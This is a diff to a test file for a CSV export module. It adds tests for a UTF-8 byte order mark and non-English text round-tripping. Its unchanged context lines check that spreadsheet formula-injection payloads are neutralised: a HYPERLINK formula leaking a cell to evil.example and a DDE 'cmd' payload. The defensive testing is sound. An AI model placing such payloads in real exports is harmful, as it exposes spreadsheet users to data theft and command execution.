@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import Papa from 'papaparse';
 import { CSV_COLUMNS, guardCell, openQuestionsCsv, parseCsv, toCsv, unguardCell } from '../../../lib/export/csv';
+import { buildExport } from '../../../components/exports';
+import { formatThread } from '../../../cli/format';
 import { escapeMarkdown, markdownLink, openQuestionsMarkdown } from '../../../lib/export/markdown';
 import { queueToMultiThreadExport, stringifyExport, toThreadExport } from '../../../lib/export/json';
 import type { QueueItem } from '../../../lib/store/types';
@@ -73,6 +75,33 @@ describe('CSV export', () => {
     expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
     expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
     expect(cells).toContain('\'=cmd|"/c calc"!A1 release notes');
+  });
+
+  it('starts with a UTF-8 byte order mark, so Excel reads non-English text as UTF-8, and still reads back', () => {
+    const url = THREADS[0].url;
+    const texts = ['Funktioniert das Hochladen für Fußnoten wieder? Äußerst ärgerlich.', 'アップロードはいつ直りますか?', '上传什么时候修好?'];
+    const items = texts.map((text, i) => item(`u${i}`, text, url));
+    const csv = toCsv(items, THREADS);
+    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(csv.slice(1)).toMatch(/^"thread title","thread url",/);
+    expect(parseCsv(csv).map((row) => row.text)).toEqual(texts);
+    expect(Object.keys(parseCsv(csv)[0])).toEqual([...CSV_COLUMNS]);
+    // papaparse with a header row (what a script reading our file uses) gets clean column names too.
+    expect(Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).meta.fields).toEqual([...CSV_COLUMNS]);
+    // Without the BOM (the CLI's stdout) it is the same CSV, and parseCsv reads both.
+    const bare = toCsv(items, THREADS, { bom: false });
+    expect(csv).toBe(`\uFEFF${bare}`);
+    expect(parseCsv(bare)).toEqual(parseCsv(csv));
+    // The dashboard's download has it.
+    expect(buildExport('csv', items, []).text.startsWith('\uFEFF')).toBe(true);
+  });
+
+  it('the CLI writes its CSV to stdout without a byte order mark', () => {
+    const url = THREADS[0].url;
+    const comments = [analysed('1', 'Geht das Hochladen für Fußnoten wieder?', ['question'])];
+    const out = formatThread({ thread: { url, title: 'Ausfall', platform: 'wordpress', author: null, commentCountClaimed: null, warnings: [] }, comments }, 'csv', new Date(NOW));
+    expect(out).toMatch(/^"thread title",/);
+    expect(parseCsv(out).map((row) => row.text)).toEqual(['Geht das Hochladen für Fußnoten wieder?']);
   });
 
   it('guardCell and unguardCell are inverse for every leading character', () => {
